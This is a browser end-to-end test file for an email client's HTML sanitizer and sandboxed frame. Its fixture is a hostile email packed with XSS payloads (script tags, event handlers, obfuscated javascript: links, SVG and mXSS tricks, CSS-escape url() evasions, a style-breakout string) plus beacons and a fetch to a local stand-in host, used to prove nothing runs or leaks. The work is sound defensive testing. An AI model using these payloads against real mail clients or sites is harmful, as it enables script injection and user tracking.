// A hostile HTML email in the real EmailFrame (real sanitizer, real sandboxed srcdoc iframe) in
// Chromium, on a page served with the workspace's CSP: nothing in it runs and nothing reaches the
// "remote host" (a second local server) until the agent clicks "Show images from sender"; then the
// tracking pixel is requested, which proves the test can see a leak when there is one.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { build } from 'esbuild';
import { expect, test, type Page } from '@playwright/test';
import { contentSecurityPolicy } from '../../src/shared/csp';

const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==', 'base64');
const GIF = Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64');

let bundle = '';
let app: http.Server;
let remote: http.Server;
let appOrigin = '';
let remoteOrigin = '';
const remoteRequests: string[] = [];
const appRequests: string[] = [];

function listen(server: http.Server): Promise<string> {
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(`http://127.0.0.1:${(server.address() as AddressInfo).port}`)));
}

/**
 * The workspace policy, plus the stand-in remote host: the product allows any https: image host
 * there (each email frame's own CSP decides per sender), and the stand-in is plain http on loopback.
 */
function withStandInRemoteHost(csp: string): string {
  return csp
    .split(';')
    .map((d) => d.trim())
    .map((d) => (d.startsWith('img-src') ? `${d} ${remoteOrigin}` : d))
    .join('; ');
}

function hostileEmail(): string {
  const R = remoteOrigin;
  const port = new URL(R).port;
  return `<html><head>
<meta http-equiv="refresh" content="0;url=${R}/meta-refresh">
<link rel="stylesheet" href="${R}/style.css">
<style>
  @import url("${R}/import.css");
  body { background-image: url('${R}/body-bg.png'); }
  .escaped { background: u\\72 l(${R}/escaped.png); }
  @font-face { font-family: evil; src: url(${R}/font.woff); }
  p { font-family: evil, sans-serif; }
</style>
<base href="${R}/">
<script>pwned('head-script'); new Image().src = '${R}/script-beacon';</script>
</head>
<body onload="pwned('body-onload')">
<h1>Quarterly statement</h1>
<p id="greeting">Hello Jane, here is your statement.</p>
<script>pwned('script'); fetch('${R}/script-fetch');</script>
<img id="onerror" src="x" onerror="pwned('onerror'); this.src='${R}/onerror-beacon'">
<a id="js-link" href="javascript:pwned('js-link')">javascript link</a>
<a id="js-link-obfuscated" href="  java&#x0A;script&colon;pwned('js-link-2')">obfuscated javascript link</a>
<a id="data-link" href="data:text/html,&lt;script&gt;pwned('data-link')&lt;/script&gt;">data link</a>
<a id="web-link" href="https://example.com/statement" ping="${R}/ping">your statement</a>
<svg><script>pwned('svg-script')</script><image href="${R}/svg-image.png"/><use href="${R}/sprite.svg#a"/><animate onbegin="pwned('svg-animate')"/></svg>
<math><mtext><table><mglyph><style><img src=x onerror="pwned('mxss')"></style></mglyph></table></mtext></math>
<img id="pixel" src="${R}/pixel.gif?u=jane" width="1" height="1" alt="">
<img id="srcset" src="${R}/srcset-1x.png" srcset="${R}/srcset-2x.png 2x" alt="chart">
<img id="protocol-relative" src="//127.0.0.1:${port}/protocol-relative.png">
<img id="relative" src="relative.png">
<img id="cid" src="cid:logo@example.com" alt="logo">
<div id="styled" style="background:url(${R}/inline-bg.png); color: rgb(200, 0, 0)">styled text</div>
<div class="escaped">escaped url in a style sheet</div>
<table background="${R}/table-bg.png"><tr><td background="${R}/td-bg.png">cell</td></tr></table>
<form action="${R}/form" method="post"><input name="card" value="4111"><input type="image" src="${R}/input-image.png"><button>Pay now</button></form>
<iframe src="${R}/iframe"></iframe><object data="${R}/object"></object><embed src="${R}/embed">
<video poster="${R}/poster.png" src="${R}/video.mp4"></video><audio src="${R}/audio.mp3" autoplay></audio>
<details open ontoggle="pwned('ontoggle')"><summary>more</summary>details</details>
<ul><li style="list-style-image: url(${R}/list.png)">item</li></ul>
</body></html>`;
}

/** What may never be requested, with or without permission for remote images. */
const NEVER = ['/meta-refresh', '/style.css', '/import.css', '/script-beacon', '/script-fetch', '/onerror-beacon', '/ping', '/svg-image.png', '/sprite.svg', '/form', '/input-image.png', '/iframe', '/object', '/embed', '/poster.png', '/video.mp4', '/audio.mp3', '/font.woff', '/relative.png'];

test.beforeAll(async () => {
  const result = await build({
    entryPoints: ['tests/e2e/fixtures/emailFrameHarness.tsx'],
    bundle: true,
    write: false,
    format: 'iife',
    platform: 'browser',
    target: 'chrome120',
    jsx: 'automatic',
    define: { 'process.env.NODE_ENV': '"production"' },
    logLevel: 'silent',
  });
  bundle = result.outputFiles[0]!.text;

  remote = http.createServer((req, res) => {
    remoteRequests.push(new URL(req.url ?? '/', 'http://remote').pathname);
    const image = /\.gif/.test(req.url ?? '') ? GIF : PNG;
    res.writeHead(200, { 'Content-Type': /\.gif/.test(req.url ?? '') ? 'image/gif' : 'image/png', 'Cache-Control': 'no-store' }).end(image);
  });
  remoteOrigin = await listen(remote);

  app = http.createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://app');
    appRequests.push(url.pathname);
    if (url.pathname === '/harness.js') {
      res.writeHead(200, { 'Content-Type': 'text/javascript; charset=utf-8' }).end(bundle);
    } else if (url.pathname === '/cid/logo.png') {
      res.writeHead(200, { 'Content-Type': 'image/png' }).end(PNG);
    } else if (url.pathname === '/') {
      const csp = withStandInRemoteHost(contentSecurityPolicy());
      const fixture = JSON.stringify({ html: hostileEmail(), remoteOrigin, cid: { 'logo@example.com': '/cid/logo.png' } }).replace(/</g, '\\u003c');
      res
        .writeHead(200, { 'Content-Type': 'text/html; charset=utf-8', 'Content-Security-Policy': csp, 'Cache-Control': 'no-store' })
        .end(`<!DOCTYPE html><html><head><meta charset="utf-8"><title>Email frame harness</title></head><body><div id="root"></div><script type="application/json" id="email-fixture">${fixture}</script><script src="/harness.js"></script></body></html>`);
    } else {
      res.writeHead(404).end();
    }
  });
  appOrigin = await listen(app);
});

test.afterAll(async () => {
  await Promise.all([new Promise((r) => app?.close(r)), new Promise((r) => remote?.close(r))]);
});

test.beforeEach(() => {
  remoteRequests.length = 0;
  appRequests.length = 0;
});

/** Opens the harness; any script that runs anywhere calls pwned(), which records it. */
async function openHostileEmail(page: Page) {
  const pwned: string[] = [];
  await page.exposeFunction('pwned', (what: string) => pwned.push(String(what)));
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await page.goto(`${appOrigin}/`);
  const frameElement = page.getByTitle('Email from Jane Smith');
  await expect(frameElement).toBeVisible();
  const frame = page.frames().find((f) => f !== page.mainFrame() && f.url() === 'about:srcdoc');
  if (!frame) throw new Error('the email frame did not load');
  await frame.waitForLoadState('load');
  return { frame, frameElement, pwned, dialogs };
}

async function settle(page: Page) {
  // Long enough for a missed load, beacon or refresh to reach the remote host.
  await page.waitForTimeout(1000);
}

test('a hostile email runs nothing and contacts no remote host until the agent allows images', async ({ page }) => {
  const { frame, frameElement, pwned, dialogs } = await openHostileEmail(page);

  await expect(frame.locator('#greeting')).toHaveText('Hello Jane, here is your statement.');
  await expect(frameElement).toHaveAttribute('sandbox', 'allow-popups allow-popups-to-escape-sandbox');
  const srcdoc = (await frameElement.getAttribute('srcdoc')) ?? '';
  expect(srcdoc).toMatch(/^<!DOCTYPE html><html><head><meta http-equiv="Content-Security-Policy" content="default-src 'none'; img-src data: http:\/\/127\.0\.0\.1:\d+; style-src 'unsafe-inline'; font-src data:;/);

  // The sanitized document: no scripts, handlers, forms, frames, media, SVG; links go outside.
  expect(await frame.locator('body').locator('script, form, input, button, iframe, object, embed, video, audio, svg, math, meta, base, link, style[media]').count()).toBe(0);
  // The head holds only the frame's own policy, base target and styles.
  expect(await frame.locator('head > *').evaluateAll((els) => els.map((e) => e.tagName.toLowerCase() + (e.getAttribute('http-equiv') ? `:${e.getAttribute('http-equiv')}` : '')))).toEqual([
    'meta:Content-Security-Policy',
    'meta',
    'meta',
    'meta:x-dns-prefetch-control',
    'base',
    'style',
    'style',
  ]);
  expect(await frame.locator('[onerror], [onload], [ontoggle], [ping]').count()).toBe(0);
  await expect(frame.locator('#js-link')).not.toHaveAttribute('href', /.*/);
  await expect(frame.locator('#js-link-obfuscated')).not.toHaveAttribute('href', /.*/);
  await expect(frame.locator('#data-link')).not.toHaveAttribute('href', /.*/);
  await expect(frame.locator('#web-link')).toHaveAttribute('href', 'https://example.com/statement');
  await expect(frame.locator('#web-link')).toHaveAttribute('target', '_blank');
  await expect(frame.locator('#web-link')).toHaveAttribute('rel', 'noopener noreferrer');
  await expect(frame.getByText('Pay now')).toBeVisible(); // the button's label stays as text

  // Inline styles apply (the workspace policy allows them), remote ones do not load.
  expect(await frame.locator('#styled').evaluate((el) => getComputedStyle(el).color)).toBe('rgb(200, 0, 0)');
  // The cid image comes from the app; the remote pixel is a local placeholder.
  await expect.poll(() => frame.locator('#cid').evaluate((img: HTMLImageElement) => img.naturalWidth)).toBe(1);
  expect(await frame.locator('#cid').getAttribute('src')).toBe(`${appOrigin}/cid/logo.png`);
  expect(appRequests).toContain('/cid/logo.png');
  expect(await frame.locator('#pixel').getAttribute('src')).toMatch(/^data:image\/svg\+xml,/);

  // Clicking the javascript: links does nothing.
  await frame.locator('#js-link').click();
  await frame.locator('#js-link-obfuscated').click();
  await settle(page);

  await expect(page.getByRole('status')).toHaveText('Remote images blocked (12). Show images from sender');
  expect(pwned).toEqual([]);
  expect(dialogs).toEqual([]);
  expect(remoteRequests).toEqual([]);

  // The agent allows remote images for this sender: now the tracking pixel is fetched.
  await page.getByRole('button', { name: 'Show images from sender' }).click();
  await expect(page.getByRole('status')).toHaveCount(0);
  await expect.poll(() => remoteRequests, { timeout: 10_000 }).toContain('/pixel.gif');
  await expect.poll(() => remoteRequests).toEqual(expect.arrayContaining(['/inline-bg.png', '/body-bg.png', '/escaped.png', '/srcset-1x.png', '/table-bg.png', '/td-bg.png', '/list.png']));
  await settle(page);
  expect(remoteRequests.filter((p) => NEVER.includes(p))).toEqual([]);
  expect(pwned).toEqual([]);
  expect(dialogs).toEqual([]);
});

test('a link in the email opens outside the app with no opener and no referrer', async ({ page, context }) => {
  const { frame } = await openHostileEmail(page);
  const referers: (string | undefined)[] = [];
  await context.route('https://example.com/**', async (route) => {
    referers.push(route.request().headers()['referer']);
    await route.fulfill({ contentType: 'text/html', body: '<!DOCTYPE html><title>Statement</title><p>statement</p>' });
  });
  const popupOpened = context.waitForEvent('page');
  await frame.locator('#web-link').click();
  const popup = await popupOpened;
  await popup.waitForLoadState('domcontentloaded');
  expect(popup.url()).toBe('https://example.com/statement');
  expect(await popup.evaluate(() => window.opener === null && document.referrer === '')).toBe(true);
  expect(referers).toEqual([undefined]);
  expect(page.url()).toBe(`${appOrigin}/`);
});

test.describe('the sanitizer in Chromium', () => {
  test.beforeEach(async ({ page }) => {
    await page.goto(`${appOrigin}/`);
    await expect(page.getByTitle('Email from Jane Smith')).toBeVisible();
  });

  const sanitize = (page: Page, html: string, allowRemote = false) => page.evaluate(([h, a]) => window.__sanitize(h as string, a as boolean), [html, allowRemote] as const);

  test('blocks remote URLs however they are written and counts them', async ({ page }) => {
    const cases: [string, number][] = [
      ['<img src="https://t.example/p.gif">', 1],
      ['<img src=" HTTPS://t.example/p.gif ">', 1],
      ['<img src="//t.example/p.gif">', 1],
      ['<img srcset="https://t.example/a.png 1x, https://t.example/b.png 2x">', 1],
      ['<div style="background: url(https://t.example/a.png)"></div>', 1],
      ['<div style="background: u\\72 l(https://t.example/a.png)"></div>', 1],
      ['<div style="background: URL( \'https://t.example/a.png\' )"></div>', 1],
      ['<div style="background-image: image-set(\'https://t.example/a.png\' 1x)"></div>', 1],
      ['<div style="--x: \'https://t.example/a.png\'; background-image: image-set(var(--x) 1x)"></div>', 1],
      ['<div style="background: url(https://t.example/a.png), url(https://t.example/b.png)"></div>', 2],
      ['<style>@import "https://t.example/s.css"; a { color: red }</style>', 1],
      ['<style>div { background: url(https://t.example/a.png) }</style>', 1],
      ['<table background="https://t.example/t.png"></table>', 1],
      ['<link rel="stylesheet" href="https://t.example/s.css">', 1],
      ['<img src="data:image/png;base64,iVBORw0KGgo=">', 0],
      ['<img src="cid:logo@example.com">', 0],
    ];
    for (const [html, blocked] of cases) {
      const r = await sanitize(page, html);
      expect(r.blockedRemote, html).toBe(blocked);
      expect(`${r.head}${r.body}`, html).not.toContain('t.example');
    }
  });

  test('keeps remote images and rewrites cid images when allowed, drops what is never allowed', async ({ page }) => {
    const r = await sanitize(page, '<img id=a src="https://t.example/p.gif"><img id=b src="cid:logo@example.com"><img id=c src="cid:unknown@x"><img id=d src="data:text/html,x"><a href="vbscript:x">v</a><a href="mailto:jane@example.com">m</a>', true);
    expect(r.blockedRemote).toBe(0);
    expect(r.body).toContain('src="https://t.example/p.gif"');
    expect(r.body).toContain(`src="${appOrigin}/cid/logo.png"`);
    expect(r.body).not.toContain('cid:unknown');
    expect(r.body).not.toContain('data:text/html');
    expect(r.body).not.toContain('vbscript');
    expect(r.body).toContain('href="mailto:jane@example.com"');
  });

  test('cannot be talked out of a <style> element', async ({ page }) => {
    const r = await sanitize(page, '<style>a { background: url("\\3c /style\\3e \\3c script\\3e pwned()\\3c /script\\3e ") }</style><p>x</p>', true);
    expect(`${r.head}${r.body}`).not.toMatch(/<\/style><script/i);
    expect(r.body).not.toContain('<script');
  });
});
